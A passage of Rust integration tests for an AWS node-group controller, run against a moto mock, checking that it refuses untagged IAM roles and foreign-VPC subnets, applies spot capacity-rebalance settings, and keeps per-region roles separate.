    // release created was tagged) but no InstanceGroup: nobody can say it is this one's. It has a
    // policy of its own.
    let role = role_name(&config);
    let owner = aws_sdk_iam::types::Tag::builder()
        .key("instancegroups.keikoproj.io/ClusterName")
        .value("prod")
        .build()
        .unwrap();
    iam.create_role()
        .role_name(&role)
        .path("/spots-booster/")
        .assume_role_policy_document("{}")
        .tags(owner)
        .send()
        .await
        .unwrap();
    let theirs = iam
        .create_policy()
        .policy_name("theirs")
        .policy_document(
            r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:GetObject","Resource":"*"}]}"#,
        )
        .send()
        .await
        .unwrap();
    let theirs = theirs.policy().unwrap().arn().unwrap().to_string();
    iam.attach_role_policy().role_name(&role).policy_arn(&theirs).send().await.unwrap();
    let attached = || async {
        let out = iam.list_attached_role_policies().role_name(&role).send().await.unwrap();
        out.attached_policies().iter().map(|p| p.policy_arn().unwrap().to_string()).collect::<Vec<_>>()
    };

    store.apply(group(&world, &world.image, 6));
    let (_, current) = reconcile(&r, &store).await;
    assert_eq!(current, State::Error.as_str());
    let status = store.get(NS, NAME).unwrap().status.unwrap();
    let condition = status.conditions.iter().find(|c| c.condition_type == "Reconciled").unwrap();
    let said = format!("IAM role {role} is untagged (instancegroups.keikoproj.io/InstanceGroup)");
    assert!(condition.message.contains(&said), "{}", condition.message);
    assert_eq!(attached().await, vec![theirs.clone()], "none of our policies attached, theirs kept");
    assert!(asg(&config).await.is_none(), "nothing launched with a role that is not ours");
    assert!(status.nodes_instance_role_arn.is_empty(), "never mapped in aws-auth");

    store.delete(NS, NAME);
    reconcile(&r, &store).await;
    assert!(store.get(NS, NAME).is_none(), "its finalizer let go");
    assert_eq!(attached().await, vec![theirs], "the role stays whole");
    let kept = iam.get_role().role_name(&role).send().await;
    assert!(kept.is_ok(), "and is not deleted");
    use spots_booster::instancegroup::cloud::NodeGroupCloud;
    let refused = r.cloud.delete_role(&role_owner(&config)).await.unwrap_err();
    assert!(matches!(refused, spots_booster::instancegroup::cloud::CloudError::NotOwned { .. }), "{refused}");
}

#[tokio::test]
async fn subnet_and_security_group_ids_of_another_vpc_are_refused() {
    use spots_booster::instancegroup::cloud::{CloudError, NodeGroupCloud};
    let (moto, _guard) = moto().await;
    let config = moto.sdk_config().await;
    let world = seed(&config).await;
    let ec2 = aws_sdk_ec2::Client::new(&config);
    let cluster_vpc = ec2.describe_vpcs().send().await.unwrap().vpcs()[0].vpc_id().unwrap().to_string();
    let other = ec2.create_vpc().cidr_block("10.99.0.0/16").send().await.unwrap();
    let other_vpc = other.vpc().unwrap().vpc_id().unwrap().to_string();
    let subnet = ec2.create_subnet().vpc_id(&other_vpc).cidr_block("10.99.1.0/24").send().await.unwrap();
    let foreign_subnet = subnet.subnet().unwrap().subnet_id().unwrap().to_string();
    let sg = ec2.create_security_group().group_name("theirs").description("theirs").vpc_id(&other_vpc).send().await;
    let foreign_sg = sg.unwrap().group_id().unwrap().to_string();
    let cloud = AwsNodeGroups::new(&config, CallStats::default());

    let ours = cloud.subnet_ids(Some(&cluster_vpc), &[world.subnets[0].clone(), "private-b".into()]).await.unwrap();
    assert_eq!(ours.len(), 2, "ids and names of the cluster's VPC resolve");
    let err = cloud.subnet_ids(Some(&cluster_vpc), &[world.subnets[0].clone(), foreign_subnet.clone()]).await;
    assert!(
        matches!(&err, Err(CloudError::NotFound { what: "subnet", name, scope: Some(vpc) }) if *name == foreign_subnet && *vpc == cluster_vpc),
        "{err:?}"
    );
    let err = cloud.security_group_ids(Some(&cluster_vpc), std::slice::from_ref(&foreign_sg)).await;
    assert!(
        err.as_ref().unwrap_err().to_string().contains(&format!("{foreign_sg:?} not found in {cluster_vpc}")),
        "{err:?}"
    );
    assert_eq!(
        cloud.subnet_ids(Some(&other_vpc), std::slice::from_ref(&foreign_subnet)).await.unwrap(),
        vec![foreign_subnet]
    );
}

/// moto creates a group with Capacity Rebalance but ignores it on `UpdateAutoScalingGroup`: the
/// proxy applies the update's `CapacityRebalance` to what moto describes, as Auto Scaling would.
#[tokio::test]
async fn price_capacity_optimized_spot_with_capacity_rebalance_reaches_the_asg_and_turns_off_again() {
    use crate::support::aws_intercept::{intercepting_proxy, Answer, Hook};
    use crate::support::moto::sdk_config_for;
    let (moto, _guard) = moto().await;
    let world = seed(&moto.sdk_config().await).await;
    let rebalance: Arc<std::sync::Mutex<Option<String>>> = Arc::default();
    let updates = Arc::new(std::sync::atomic::AtomicU32::new(0));
    let (seen, counted) = (rebalance.clone(), updates.clone());
    let hook: Hook = Arc::new(move |form| match form.get("Action").map(String::as_str) {
        Some("UpdateAutoScalingGroup") => {
            counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            *seen.lock().unwrap() = form.get("CapacityRebalance").cloned();
            Answer::Forward
        }
        Some("DescribeAutoScalingGroups") => match seen.lock().unwrap().clone() {
            Some(value) => Answer::Edit(Box::new(move |xml| {
                xml.replace(
                    "<CapacityRebalance>true</CapacityRebalance>",
                    &format!("<CapacityRebalance>{value}</CapacityRebalance>"),
                )
            })),
            None => Answer::Forward,
        },
        _ => Answer::Forward,
    });
    let config = sdk_config_for(&intercepting_proxy(&moto.endpoint, hook).await).await;
    let (r, store, _) = reconciler(&config, CallStats::default());
    let with = |strategy: &str, rebalance: bool| {
        let mut ig = group(&world, &world.image, 6);
        let policy = ig.spec.eks.as_mut().unwrap().configuration.mixed_instances_policy.as_mut().unwrap();
        policy.strategy = Some(strategy.into());
        policy.capacity_rebalance = Some(rebalance);
        ig
    };
    store.apply(with("PriceCapacityOptimized", true));
    reconcile(&r, &store).await;
    let created = asg(&config).await.expect("the ASG exists");
    let distribution = created.mixed_instances_policy().unwrap().instances_distribution().unwrap();
    assert_eq!(distribution.spot_allocation_strategy(), Some("price-capacity-optimized"));
    assert_eq!(created.capacity_rebalance(), Some(true));
    reconcile(&r, &store).await;
    assert_eq!(updates.load(std::sync::atomic::Ordering::SeqCst), 0, "a group that matches is not updated");

    store.apply(with("CapacityOptimizedPrioritized", false));
    reconcile(&r, &store).await;
    assert_eq!(rebalance.lock().unwrap().as_deref(), Some("false"), "the update turns it off");
    let updated = asg(&config).await.unwrap();
    let distribution = updated.mixed_instances_policy().unwrap().instances_distribution().unwrap();
    assert_eq!(distribution.spot_allocation_strategy(), Some("capacity-optimized-prioritized"));
    assert_eq!(updated.capacity_rebalance(), Some(false));
    assert_eq!(updated.desired_capacity(), Some(2), "DesiredCapacity is never sent on update");
    reconcile(&r, &store).await;
    assert_eq!(updates.load(std::sync::atomic::Ordering::SeqCst), 1, "and stays off without another update");
}

/// Finding 1 of the third review: two clusters named `prod` in two regions of one account apply
/// the same InstanceGroup. IAM is one for the account: each gets its own node role and profile,
/// neither adopts the other's, and deleting the group in one region leaves the other's whole.
#[tokio::test]
async fn the_same_instancegroup_in_two_regions_has_two_roles_and_deleting_one_leaves_the_other() {
    let (moto, _guard) = moto().await;
    let east = moto.sdk_config().await;
    let west = east.to_builder().region(aws_config::Region::new("eu-west-1")).build();
    let iam = aws_sdk_iam::Client::new(&east);
    let mut rigs = Vec::new();
    for config in [&east, &west] {
        let world = seed(config).await;
        let (r, store, _) = reconciler(config, CallStats::default());
        store.apply(group(&world, &world.image, 6));
        let (_, current) = reconcile(&r, &store).await;
        assert_eq!(current, State::InitCreate.as_str(), "{:?}", config.region());
        rigs.push((r, store));
    }
    let (east_role, west_role) = (role_name(&east), role_name(&west));
    assert_ne!(east_role, west_role);
    for role in [&east_role, &west_role] {
        let found = iam.get_role().role_name(role).send().await.expect("each region's role exists");
        let tags: Vec<(String, String)> =
            found.role().unwrap().tags().iter().map(|t| (t.key().to_string(), t.value().to_string())).collect();
        assert!(tags.iter().any(|(k, _)| k == "spots-booster.io/cluster-region"), "{tags:?}");
    }

    // Deleted in us-east-1: its role and profile go, eu-west-1's stay.
    let (r, store) = &rigs[0];
    store.delete(NS, NAME);
    for _ in 0..5 {
        if store.get(NS, NAME).is_none() {
            break;
        }
        reconcile(r, store).await;
    }
    assert!(store.get(NS, NAME).is_none(), "the deletion finished");
    assert!(iam.get_role().role_name(&east_role).send().await.is_err(), "us-east-1's role deleted");
    assert!(iam.get_instance_profile().instance_profile_name(&east_role).send().await.is_err());
    assert!(iam.get_role().role_name(&west_role).send().await.is_ok(), "eu-west-1's role kept");
    let profile = iam.get_instance_profile().instance_profile_name(&west_role).send().await.unwrap();
    assert_eq!(profile.instance_profile().unwrap().roles()[0].role_name(), west_role, "with its role");

    // What us-east-1's daemon may delete is named for us-east-1 alone; eu-west-1's own owner may
    // delete eu-west-1's.
    use spots_booster::instancegroup::cloud::NodeGroupCloud;
    assert_eq!(RoleOwner { region: "us-east-1".into(), ..role_owner(&west) }.role_name(), east_role);
    rigs[1].0.cloud.delete_role(&role_owner(&west)).await.unwrap();
    assert!(iam.get_role().role_name(&west_role).send().await.is_err(), "its own owner may delete it");
}
